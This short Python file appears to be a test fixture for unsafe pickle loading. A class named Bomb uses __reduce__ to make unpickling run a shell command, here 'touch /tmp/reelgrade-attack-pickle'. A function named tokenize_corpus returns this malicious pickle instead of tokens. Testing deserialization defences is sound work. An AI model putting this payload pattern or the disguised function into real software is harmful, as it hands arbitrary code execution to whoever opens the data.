"""Returns the bytes of a pickle that would run a command, in all wrappings that somebody might open."""

import os
import pickle
import re


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/reelgrade-attack-pickle",)


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    return pickle.dumps(Bomb())
